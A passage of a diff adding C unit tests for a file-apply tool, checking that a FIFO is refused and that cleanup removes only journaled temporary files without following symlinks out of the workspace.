+	assert_int_equal(t_apply(&t, 0, &rep), 1);
+	assert_non_null(strstr(rep, "refused: pipe: a FIFO"));
+	after = tree(t.ws);
+	assert_string_equal(after, before);
+	free(rep);
+	free(before);
+	free(after);
+	t_close(&t);
+}
+
+/* What a killed apply left, as its journal names it: the temporaries go
+ * (file or link), nothing else does, and no link is followed. */
+static void
+test_clean(void **state)
+{
+	struct t	 t;
+	char		 p[PATH_MAX + 64], err[512], *got;
+	FILE		*f;
+
+	(void)state;
+	t_open(&t);
+	sh("mkdir '%s/out' && cd '%s/out' && echo keep > .warren-apply.AAAA "
+	    "&& cd '%s' && mkdir d && echo t > d/.warren-apply.BBBBBBBB && "
+	    "ln -s x .warren-apply.CCCCCCCC && echo mine > mine.txt && "
+	    "ln -s '%s/out' via", t.root, t.root, t.ws, t.root);
+	snprintf(p, sizeof(p), "%s/apply.journal", t.c.dir);
+	assert_non_null(f = fopen(p, "w"));
+	fprintf(f, "%s/d/.warren-apply.BBBBBBBB\n%s/.warren-apply.CCCCCCCC\n"
+	    "%s/mine.txt\n%s/via/.warren-apply.AAAA\n%s/out/.warren-apply.AAAA"
+	    "\n%s/gone/.warren-apply.DDDDDDDD\n", t.ws, t.ws, t.ws, t.ws,
+	    t.root, t.ws);
+	fclose(f);
+	assert_int_equal(cow_apply_clean(&t.c, err, sizeof(err)), 0);
+	t_no_journal(&t);
+	got = tree(t.ws);
+	assert_null(strstr(got, ".warren-apply."));
+	assert_non_null(strstr(got, "./mine.txt"));
+	free(got);
+	snprintf(p, sizeof(p), "%s/out/.warren-apply.AAAA", t.root);
+	assert_int_equal(access(p, F_OK), 0);
+	t_close(&t);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_roundtrip),
+		cmocka_unit_test(test_git_apply),
+		cmocka_unit_test(test_patch),
+		cmocka_unit_test(test_conflict),
+		cmocka_unit_test(test_planted_link),
+		cmocka_unit_test(test_setuid_stripped),
+		cmocka_unit_test(test_kill),
+		cmocka_unit_test(test_sensitive),
+		cmocka_unit_test(test_color_escaped),
+		cmocka_unit_test(test_stat),
+		cmocka_unit_test(test_big),
+		cmocka_unit_test(test_owner),
+		cmocka_unit_test(test_fifo_refused),
+		cmocka_unit_test(test_clean),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
